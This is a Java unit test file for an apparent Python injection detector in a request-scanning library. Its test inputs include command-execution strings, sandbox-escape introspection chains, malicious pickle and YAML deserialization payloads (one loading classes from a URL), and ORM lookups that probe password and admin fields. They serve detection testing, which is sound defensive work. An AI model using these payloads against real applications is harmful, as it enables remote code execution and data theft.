package dev.bulwark.core.internal.code.python;

import static org.assertj.core.api.Assertions.assertThat;
import dev.bulwark.core.Component;
import dev.bulwark.core.Level;
import dev.bulwark.core.Source;
import dev.bulwark.core.internal.rules.ScanTarget;
import dev.bulwark.core.internal.rules.Scans;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PythonInjectionDetectorTest {

    private final PythonInjectionDetector detector = new PythonInjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {"__import__('os').system('id')", "os.system('id')", "os.popen('id').read()",
        "subprocess.check_output(['id'])", "x;import os;os.execv('/bin/sh', [])"})
    void detectsPythonCommandExecution(String value) {
        assertThat(Scans.value(detector, value)).contains("CODE-PYTHON");
    }

    @ParameterizedTest
    @ValueSource(strings = {"().__class__.__bases__[0].__subclasses__()", "x.__globals__['os']",
        "request.__init__.__globals__"})
    void detectsPythonObjectGraphTraversal(String value) {
        assertThat(Scans.value(detector, value)).contains("CODE-PYTHON-INTROSPECTION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"the __init__ method", "Python's os module", "use os.path to join", "__main__"})
    void ignoresPythonTermsInProse(String value) {
        assertThat(Scans.value(detector, value)).isEmpty();
    }

    @Test
    void detectsProtocolZeroPickle() {
        assertThat(Scans.value(detector, "cos\nsystem\n(S'id'\ntR.")).contains("CODE-SERIALIZED-OBJECT");
    }

    @Test
    void ignoresMultiLineTextThatStartsLikeAPickle() {
        assertThat(Scans.value(detector, "sin\ncos\ntan\nsystem\n")).isEmpty();
    }

    @Test
    void detectsBase64Pickle() {
        byte[] pickle = "\u0080\u0004\u0095\u001e\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c\u0002id\u0094\u0085\u0094R\u0094."
                .getBytes(StandardCharsets.ISO_8859_1);
        assertThat(Scans.value(detector, Base64.getEncoder().encodeToString(pickle))).contains("CODE-SERIALIZED-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"!!python/object/apply:os.system [\"id\"]", "--- !ruby/object:Gem::Installer\ni: x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://h/\"]]]]"})
    void detectsYamlObjectTag(String value) {
        assertThat(Scans.value(detector, value)).contains("CODE-SERIALIZED-OBJECT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"password__startswith", "user__password__regex", "created_by__dept__staff__user__email__startswith",
        "name__iregex"})
    void detectsOrmLeakLookup(String name) {
        assertThat(Scans.name(detector, name)).contains("CODE-ORM-LOOKUP");
    }

    @Test
    void reportsOrdinaryOrmFilterOnlyAtStrictLevel() {
        assertThat(Scans.name(detector, "price__gte")).isEmpty();
        assertThat(Scans.at(Level.STRICT, detector,
                new ScanTarget("price__gte", Source.QUERY, Component.NAME, "price__gte")))
                .contains("CODE-ORM-LOOKUP-ANY");
    }

    @Test
    void detectsKeyLookupProbingForPrivilegeField() {
        assertThat(Scans.standard(detector, Scans.query("data__has_key", "is_admin"))).contains("CODE-ORM-LOOKUP");
        assertThat(Scans.standard(detector, Scans.query("user__metadata__has_keys", "name,is_staff")))
                .contains("CODE-ORM-LOOKUP");
        assertThat(Scans.standard(detector, Scans.json("/filter/meta__has_any_keys/0", "is_superuser")))
                .contains("CODE-ORM-LOOKUP");
    }

    @Test
    void ignoresKeyLookupForOrdinaryFieldAndPrivilegeWordElsewhere() {
        assertThat(Scans.standard(detector, Scans.query("data__has_key", "color"))).isEmpty();
        assertThat(Scans.standard(detector, Scans.query("note", "is_admin"))).isEmpty();
        assertThat(Scans.standard(detector, Scans.query("has_key", "password"))).isEmpty();
    }
}
